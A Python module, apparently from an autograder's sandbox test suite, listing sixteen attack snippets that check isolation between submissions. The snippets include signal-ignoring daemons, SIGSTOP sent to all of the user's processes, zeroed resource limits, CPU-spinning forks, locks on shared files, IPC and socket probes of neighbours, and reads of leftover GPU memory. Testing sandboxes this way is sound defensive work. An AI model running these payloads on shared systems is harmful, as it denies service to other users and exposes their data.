"""J. Leftovers and neighbours."""

from __future__ import annotations

from .attack import SEEK, Attack

J = [
    Attack(
        "J1",
        "daemons in sessions of their own that wait for the next submission",
        "leftover",
        """
import os, signal, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 64):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        if os.fork(): os._exit(0)
        while True:
            try:
                for name in os.listdir("/tmp"): open("/dev/shm/" + name, "w").write("seen")
            except OSError: pass
            time.sleep(0.01)
""",
    ),
    Attack(
        "J2",
        "STOP for every process of the same user",
        "harm",
        """
import os, signal
for pid in [-1, *range(2, 5000)]:
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "J3",
        "notes for the next: keyrings, SysV and POSIX shared memory, queues, semaphores",
        "leftover",
        """
import ctypes
libc = ctypes.CDLL(None)
done = [libc.syscall(248, b"user", b"note", b"x", 1, -5), libc.shmget(0x1234, 4096, 0o1666)]
done += [libc.msgget(0x1234, 0o1666), libc.semget(0x1234, 1, 0o1666)]
if max(done) >= 0: print("OWNED", "noted", done)
""",
        base="right",
    ),
    Attack(
        "J4",
        "a listening abstract socket, and locks on files that all boxes share",
        "leftover",
        """
import fcntl, os, socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0autograder-note"); s.listen()
if os.fork() == 0:
    os.setsid()
    for path in ("/box/guest/wire.py", "/box/data/points.csv", "/usr/bin/env"):
        try: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError: pass
    while True: s.accept()
""",
    ),
    Attack(
        "J5",
        "unkillable: a child that is traced, stopped and in a full pipe",
        "leftover",
        """
import os, signal, time
for _ in range(10):
    if os.fork() == 0:
        os.setsid(); r, w = os.pipe()
        if os.fork() == 0: os.kill(os.getpid(), signal.SIGSTOP)
        while True: os.write(w, bytes(65536))
""",
    ),
    Attack(
        "J6",
        "zombies by the dozen",
        "leftover",
        """
import os
for _ in range(25):
    try:
        if os.fork() == 0: os._exit(0)
    except OSError: break
""",
        base="right",
    ),
    Attack(
        "J7",
        "the state of the generator, the umask, the limits and the niceness for the next",
        "harm",
        """
import os, random, resource, numpy as np
os.umask(0o777); random.seed(0); np.random.seed(0)
for limit in range(16):
    try: resource.setrlimit(limit, (0, 0))
    except (OSError, ValueError): pass
""",
    ),
    Attack(
        "J8",
        "its own channel in a message to a daemon, through a socket that outlives it",
        "leftover",
        """
import os, socket
a, b = socket.socketpair()
socket.send_fds(a, [b"x"], [3, 0, 1, 2, b.fileno()])
if os.fork() == 0:
    os.setsid(); a.close()
    data, fds, *_ = socket.recv_fds(b, 16, 8)
    while True:
        for fd in fds:
            try: os.write(fd, b"\\0\\0\\0\\2\\0\\0\\0\\0{}")
            except OSError: pass
""",
    ),
    Attack(
        "J9",
        "descriptors sent over the channel to the grader, by the hundred",
        "harm",
        """
import os, socket
s = socket.socket(fileno=os.dup(3))
for _ in range(20):
    try: socket.send_fds(s, [b"\\0"], [os.open("/dev/null", 0)] * 50)
    except OSError: pass
""",
    ),
    Attack(
        "J10",
        "abstract sockets of any name: one that listens for a neighbour, one that calls",
        "leftover",
        """
import os, socket
heard = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for name in ("autograder-note", "note", "", "dbus", "/tmp/dbus"):
    try: socket.socket(socket.AF_UNIX).connect("\\0" + name); print("OWNED", "a neighbour listens at", name)
    except OSError: pass
heard.bind("\\0autograder-letters"); heard.setblocking(False)
try: print("OWNED", "a letter", heard.recv(100))
except OSError: pass
if os.fork() == 0:
    os.setsid(); s = socket.socket(socket.AF_UNIX); s.bind("\\0autograder-note"); s.listen()
    while True: s.accept()[0].send(b"CANARY")
""",
    ),
    Attack(
        "J11",
        "keyrings of user, session and process, and a search through them",
        "leftover",
        """
import ctypes
libc = ctypes.CDLL(None)
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(248, b"user", b"autograder-note", b"note", 4, ring) >= 0: print("OWNED", "a key in", ring)
    if libc.syscall(250, 10, ring, b"user", b"autograder-note", 0) >= 0: print("OWNED", "found a key in", ring)
    libc.syscall(250, 1, b"autograder-ring"); libc.syscall(250, 5, ring, 0x3F3F3F3F)
""",
        base="right",
    ),
    Attack(
        "J12",
        "vsock to the host, to itself and to everybody",
        "leftover",
        """
import ctypes, os, socket
for cid in (0, 1, 2, 3, 0xFFFFFFFF):
    for make in (lambda: socket.socket(40, socket.SOCK_STREAM), lambda: socket.socket(40, socket.SOCK_DGRAM)):
        try: s = make(); print("OWNED", "a vsock"); s.bind((cid, 9999)); s.connect((cid, 9999))
        except (OSError, TypeError): pass
if os.path.exists("/dev/vsock"): print("OWNED", "/dev/vsock")
""",
        base="right",
    ),
    Attack(
        "J13",
        "a message in file locks: flock, fcntl and open-file locks on everything that is shared",
        "leftover",
        """
import fcntl, os, struct
for top in ("/box", "/usr/bin", "/dev", "/etc", "data"):
    for name in (os.listdir(top) if os.path.isdir(top) else [])[:40]:
        try: fd = os.open(os.path.join(top, name), os.O_RDONLY | os.O_NONBLOCK)
        except OSError: continue
        for lock in (lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB), lambda: fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB),
                     lambda: fcntl.fcntl(fd, 37, struct.pack("hhqqi", 0, 0, 0, 0, 0)), lambda: fcntl.fcntl(fd, 1024, 1)):
            try: lock()
            except OSError: pass
if os.fork() == 0:
    os.setsid()
    while True: os.sched_yield()
""",
    ),
    Attack(
        "J14",
        "files in /dev/shm, mapped and held open without a name, and names that hide",
        "leftover",
        """
import mmap, os, tempfile
for folder in ("/dev/shm", "/tmp", "/dev/mqueue", "/var/tmp", "/run", "."):
    for name in (".note", "sem.note", "\\n", "\\udcff", "-rf", "a" * 255):
        try: open(os.path.join(folder, name), "w").write("note")
        except OSError: pass
    try:
        held = tempfile.TemporaryFile(dir=folder); held.truncate(1 << 16)
        mmap.mmap(held.fileno(), 1 << 16)[:4] = b"note"
        os.chmod(folder, 0)
    except (OSError, ValueError): pass
if os.fork() == 0:
    os.setsid()
    while True: os.sched_yield()
""",
    ),
    Attack(
        "J15",
        "processor time taken from whoever shares it: thirty spinners with realtime wishes",
        "harm",
        """
import os
for wish in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
             lambda: os.setpriority(os.PRIO_USER, 0, -20)):
    try: wish(); print("OWNED", "granted")
    except OSError: pass
for _ in range(30):
    try:
        if os.fork() == 0:
            os.setsid()
            while True: pass
    except OSError: break
""",
        base="right",
    ),
    Attack(
        "J16",
        "memory of the card that is not cleared between two submissions",
        "secret",
        SEEK
        + """
import torch
for size in (20, 24, 28):
    held = torch.empty(1 << size, dtype=torch.uint8, device="cuda")
    if held.any(): print("OWNED", "memory of somebody"); seek(bytes(held[: 1 << 22].cpu().numpy()))
held.fill_(7)
""",
        base="right",
        gpu=True,
    ),
]
